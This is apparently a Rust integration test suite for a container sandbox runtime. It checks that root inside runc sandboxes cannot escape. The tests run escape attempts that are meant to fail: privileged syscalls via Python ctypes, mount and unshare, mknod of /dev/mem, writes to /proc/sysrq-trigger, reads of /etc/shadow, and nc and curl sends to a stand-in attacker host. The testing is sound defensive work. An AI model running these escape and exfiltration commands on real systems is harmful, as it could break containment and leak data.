//! Escape attempts from inside real runc sandboxes, as root there, behind the real firewall
//! (issue 16): every kernel door the boundary closes is tried, each must fail, and after each
//! the firewall still holds (the attacker's upstream saw nothing). Runs as root (skipped
//! otherwise); the bed removes everything it made.

#![expect(
    clippy::unwrap_used,
    reason = "test helpers: a failed step is a failed test"
)]
#![expect(
    clippy::print_stderr,
    reason = "reports create-to-first-exec and clean-up failures"
)]

#[macro_use]
mod common;

use common::*;
use palisade_runtime::SandboxState;
use palisade_testbed::addrs;

/// Raw syscalls from Python (the host template has python3): `name errno` per line, errno 0
/// when the call succeeded. Arguments are harmless even if a call went through.
const SYSCALLS_PY: &str = r#"python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(name, nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *[ctypes.c_long(a) for a in args])
    print(name, ctypes.get_errno() if r < 0 else 0)
buf = ctypes.create_string_buffer(256)
call("keyctl", 250, 0, 0, 0, 0, 0)                 # KEYCTL_GET_KEYRING_ID
call("add_key", 248, ctypes.addressof(ctypes.create_string_buffer(b"user")), ctypes.addressof(ctypes.create_string_buffer(b"k")), 0, 0, -4)
call("request_key", 249, ctypes.addressof(ctypes.create_string_buffer(b"user")), ctypes.addressof(ctypes.create_string_buffer(b"k")), 0, 0)
call("bpf", 321, 0, ctypes.addressof(buf), 48)      # BPF_MAP_CREATE
call("perf_event_open", 298, ctypes.addressof(buf), 0, -1, -1, 0)
call("io_uring_setup", 425, 1, ctypes.addressof(buf))
call("init_module", 175, ctypes.addressof(buf), 16, ctypes.addressof(buf))
call("finit_module", 313, 0, ctypes.addressof(buf), 0)
call("delete_module", 176, ctypes.addressof(ctypes.create_string_buffer(b"nonexistent")), 0)
call("userfaultfd", 323, 0)
call("open_by_handle_at", 304, -100, ctypes.addressof(buf), 0)
call("kexec_load", 246, 0, 0, 0, 0)
call("ptrace_attach_init", 101, 16, 1, 0, 0)        # PTRACE_ATTACH pid 1
call("ptrace_seize_init", 101, 0x4206, 1, 0, 0)     # PTRACE_SEIZE pid 1
call("process_vm_readv", 310, 1, ctypes.addressof(buf), 1, ctypes.addressof(buf), 1, 0)
call("unshare_user", 272, 0x10000000)
call("unshare_net", 272, 0x40000000)
call("clone_newuser", 56, 0x10000000 | 17, 0, 0, 0, 0)
call("setns", 308, 0, 0)
call("mount", 165, 0, ctypes.addressof(ctypes.create_string_buffer(b"/mnt")), ctypes.addressof(ctypes.create_string_buffer(b"tmpfs")), 0, 0)
call("open_tree", 428, -100, ctypes.addressof(ctypes.create_string_buffer(b"/")), 1)
call("fsopen", 430, ctypes.addressof(ctypes.create_string_buffer(b"tmpfs")), 0)
call("pivot_root", 155, 0, 0)
call("syslog", 103, 3, ctypes.addressof(buf), 256)   # read the kernel log
call("personality_no_aslr", 135, 0x0040000)
call("socket_vsock", 41, 40, 1, 0)
call("socket_raw", 41, 2, 3, 1)                     # AF_INET, SOCK_RAW, ICMP
call("socket_packet", 41, 17, 3, 0)                 # AF_PACKET
call("clone3", 435, 0, 0)
call("swapon", 167, ctypes.addressof(ctypes.create_string_buffer(b"/nonexistent")), 0)
call("reboot_query", 169, 0, 0, 0, 0)
PY"#;

/// What each call must answer: EPERM (1) everywhere but clone3, which says ENOSYS (38) so that
/// libc falls back to `clone`, whose flags the filter can see.
fn expected_errno(name: &str) -> i32 {
    if name == "clone3" { 38 } else { 1 }
}

#[test]
fn root_inside_cannot_reach_the_kernel_or_the_host() {
    require_root!();
    let bed = Bed::new();
    // No allow_cidrs: ICMP may go nowhere, so no raw sockets either.
    let sb = bed.sandbox(r#"{"mode":"custom","allow_domains":["alpha.test"]}"#);
    let r = sb.sh("id -u");
    assert_eq!(r.stdout.trim(), "0", "{}", show(&r));

    // Every syscall the boundary refuses, with the errno it must give.
    let r = sb.sh(SYSCALLS_PY);
    assert_eq!(r.exit_code, 0, "{}", show(&r));
    let mut seen = 0;
    for line in r.stdout.lines() {
        let (name, errno) = line.split_once(' ').unwrap();
        let errno: i32 = errno.parse().unwrap();
        assert_eq!(errno, expected_errno(name), "{name}: {}", show(&r));
        seen += 1;
    }
    assert_eq!(seen, 31, "{}", show(&r));
    assert_firewall_holds(&sb);

    // The same through the everyday tools (present, so a failure is a refusal).
    for cmd in [
        "mount -t tmpfs x /mnt",
        "mount --bind / /mnt",
        "unshare -U true",
        "unshare -U -r true",
        "unshare -n true",
        "unshare -m true",
        "unshare -p -f true",
        "echo 1 > /proc/sys/vm/drop_caches",
        "echo x > /proc/sys/kernel/domainname",
        // `h` only prints help to the kernel log, should the write ever go through.
        "echo h > /proc/sysrq-trigger",
        "cat /dev/kmsg",
        "mknod /tmp/disk b 8 0 && head -c 1 /tmp/disk",
        "mknod /tmp/mem c 1 1 && head -c 1 /tmp/mem",
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'",
    ] {
        let r = sb.sh(cmd);
        assert!(
            r.exit_code != 0 && r.exit_code != 127,
            "{cmd} was not refused: {}",
            show(&r)
        );
    }
    assert_firewall_holds(&sb);

    // What the process is: no new privileges, a filter, no raw-network or admin capability.
    let status = sb.sh("cat /proc/self/status").stdout;
    assert!(status.contains("NoNewPrivs:\t1"), "{status}");
    assert!(status.contains("Seccomp:\t2"), "{status}");
    let cap_eff = status
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:\t"))
        .unwrap();
    let caps = u64::from_str_radix(cap_eff.trim(), 16).unwrap();
    for (bit, name) in [
        (13, "NET_RAW"),
        (12, "NET_ADMIN"),
        (21, "SYS_ADMIN"),
        (16, "SYS_MODULE"),
        (19, "SYS_PTRACE"),
        (17, "SYS_RAWIO"),
    ] {
        assert_eq!(caps & (1 << bit), 0, "{name} granted");
    }
    // Masked and read-only kernel files; a private /dev with the usual nodes only.
    // (This kernel may have no /proc/kcore at all: nothing readable either way.)
    let r = sb.sh(
        "cat /proc/kcore 2>/dev/null | head -c 16 | wc -c; wc -c < /proc/keys; \
         ls -A /sys/firmware | wc -l",
    );
    assert_eq!(r.stdout, "0\n0\n0\n", "{}", show(&r));
    let r = sb.sh("ls -A /dev");
    let dev: Vec<&str> = r.stdout.lines().collect();
    for n in [
        "null", "zero", "full", "random", "urandom", "tty", "pts", "shm",
    ] {
        assert!(dev.contains(&n), "/dev/{n} missing: {dev:?}");
    }
    for n in ["kmsg", "mem", "kmem", "port", "vda", "sda", "kvm", "fuse"] {
        assert!(!dev.contains(&n), "/dev/{n} present: {dev:?}");
    }
    // Its own cgroup namespace: the cgroup paths say nothing about the host's tree.
    let r = sb.sh("cat /proc/self/cgroup");
    assert!(r.stdout.lines().all(|l| l.ends_with(":/")), "{}", show(&r));

    // Ordinary work goes on: threads, processes, the allowed name.
    let r = sb.sh(
        "python3 -c 'import threading, subprocess; t = threading.Thread(target=print); \
         t.start(); t.join(); subprocess.run([\"true\"], check=True)'",
    );
    assert_eq!(r.exit_code, 0, "{}", show(&r));
    let r = sb.curl("https://alpha.test/");
    assert_eq!(r.exit_code, 0, "{}", show(&r));

    // The init survived every refusal.
    let r = sb.sh("cat /proc/1/comm");
    assert_eq!(r.stdout.trim(), ".palisade-init", "{}", show(&r));
    let st = bed.host_rt.block_on(bed.runtime.get(&sb.id)).unwrap().state;
    assert_eq!(st, SandboxState::Running);
    assert_firewall_holds(&sb);
}

/// The sandbox still reaches nothing it may not: the attacker's address (TLS, HTTP, TCP),
/// and its upstream has seen nothing at all.
fn assert_firewall_holds(sb: &Sbx<'_>) {
    let r = sb.curl(&format!(
        "--resolve evil.test:443:{} https://evil.test/",
        addrs::ATTACKER_V4
    ));
    assert_refused(&r, "TLS to the attacker");
    let r = sb.sh(&format!(
        "printf 'x' | nc -N -w 3 {} 5432",
        addrs::ATTACKER_V4
    ));
    assert!(r.stdout.is_empty() && !r.timed_out, "{}", show(&r));
    let r = sb.sh(&format!("ping -c 1 -W 1 {}", addrs::ATTACKER_V4));
    assert_ne!(r.exit_code, 0, "{}", show(&r));
    sb.bed.world.assert_untouched("attacker");
}

/// Host pids of every process in the sandbox's cgroup (pids controller, v1 or v2).
fn host_pids(id: &str) -> Vec<u32> {
    for dir in [
        format!("/sys/fs/cgroup/pids/palisade/{id}"),
        format!("/sys/fs/cgroup/palisade/{id}"),
    ] {
        if let Ok(t) = std::fs::read_to_string(format!("{dir}/cgroup.procs")) {
            return t.lines().filter_map(|l| l.trim().parse().ok()).collect();
        }
    }
    Vec::new()
}

/// The four uids (real, effective, saved, fs) of a host process.
fn host_uids(pid: u32) -> Vec<u32> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .unwrap()
        .split_whitespace()
        .map(|u| u.parse().unwrap())
        .collect()
}

/// Runs `args` on the host as the given uid and gid, with no groups and no capabilities.
fn as_host_user(uid: u32, args: &[&str]) -> std::process::Output {
    std::process::Command::new("setpriv")
        .arg(format!("--reuid={uid}"))
        .arg(format!("--regid={uid}"))
        .args(["--clear-groups", "--inh-caps=-all", "--"])
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn sandboxes_are_unprivileged_on_the_host_and_apart() {
    require_root!();
    let bed = Bed::new();
    let a = bed.sandbox(r#"{"mode":"custom","allow_domains":["alpha.test"]}"#);
    // b may send ICMP to one host: it keeps CAP_NET_RAW (in its own user namespace) for ping.
    let b = bed.sandbox(&format!(
        r#"{{"mode":"custom","allow_domains":["alpha.test"],"allow_cidrs":["{}/32"]}}"#,
        addrs::TCP_V4
    ));
    let base_a = bed.runtime.host_id_base(&a.id).unwrap();
    let base_b = bed.runtime.host_id_base(&b.id).unwrap();
    assert!(base_a > 0 && base_b > 0);
    assert!(base_a.abs_diff(base_b) >= palisade_runtime::IDS_PER_SANDBOX);

    // Root inside, an unprivileged uid of its own range outside: the init and a process left
    // running by an exec.
    for sb in [&a, &b] {
        let r = sb.sh("id -u; cat /proc/self/uid_map");
        assert!(r.stdout.starts_with("0\n"), "{}", show(&r));
        let r = sb.sh("sleep 120 >/dev/null 2>&1 &");
        assert_eq!(r.exit_code, 0, "{}", show(&r));
        let base = bed.runtime.host_id_base(&sb.id).unwrap();
        let pids = host_pids(&sb.id);
        assert!(pids.len() >= 2, "{pids:?}");
        for pid in pids {
            assert_eq!(host_uids(pid), [base; 4], "host pid {pid} of {}", sb.id);
        }
    }

    // A file only a's root may read, and a's sleeper.
    let r = a.sh("umask 077; echo secret-of-a > /root/a-only; pgrep -x sleep");
    assert_eq!(r.exit_code, 0, "{}", show(&r));
    let upper_a = a.dir().join("upper/root/a-only");
    let st = std::fs::metadata(&upper_a).unwrap();
    assert_eq!(
        std::os::unix::fs::MetadataExt::uid(&st),
        base_a,
        "a's file on the host"
    );
    let sleeper_a = host_pids(&a.id)
        .into_iter()
        .find(|p| {
            std::fs::read_to_string(format!("/proc/{p}/comm")).is_ok_and(|c| c.trim() == "sleep")
        })
        .unwrap();

    // From b: neither a's processes nor its files are in reach (pid namespace, masked data
    // directory)...
    let r = b.sh(&format!(
        "kill -0 {sleeper_a} || echo nokill; ls /proc | grep -c '^[0-9]'; \
         cat {} || echo noread",
        upper_a.display()
    ));
    assert!(r.stdout.contains("noread"), "{}", show(&r));
    assert!(!r.stdout.contains("secret-of-a"), "{}", show(&r));
    let r = b.sh("pgrep -x sleep | wc -l");
    assert_eq!(
        r.stdout.trim(),
        "1",
        "b sees only its own sleeper: {}",
        show(&r)
    );
    // ... and b's identity could not use them if it had them: as b's root on the host,
    // a's file is unreadable and a's process cannot be signalled.
    let out = as_host_user(base_b, &["cat", upper_a.to_str().unwrap()]);
    assert!(!out.status.success(), "{out:?}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("secret-of-a"));
    let out = as_host_user(base_b, &["kill", "-0", &sleeper_a.to_string()]);
    assert!(!out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("not permitted"),
        "{out:?}"
    );
    // Nor is a host root's file readable to a sandbox's root.
    let out = as_host_user(base_a, &["cat", "/etc/shadow"]);
    assert!(!out.status.success(), "{out:?}");

    let r = b.sh(&format!("ping -c 1 -W 2 {}", addrs::TCP_V4));
    assert_eq!(r.exit_code, 0, "{}", show(&r));
    let r = a.sh(&format!("ping -c 1 -W 2 {}", addrs::TCP_V4));
    assert_ne!(r.exit_code, 0, "{}", show(&r));
    assert_firewall_holds(&a);
    assert_firewall_holds(&b);
}
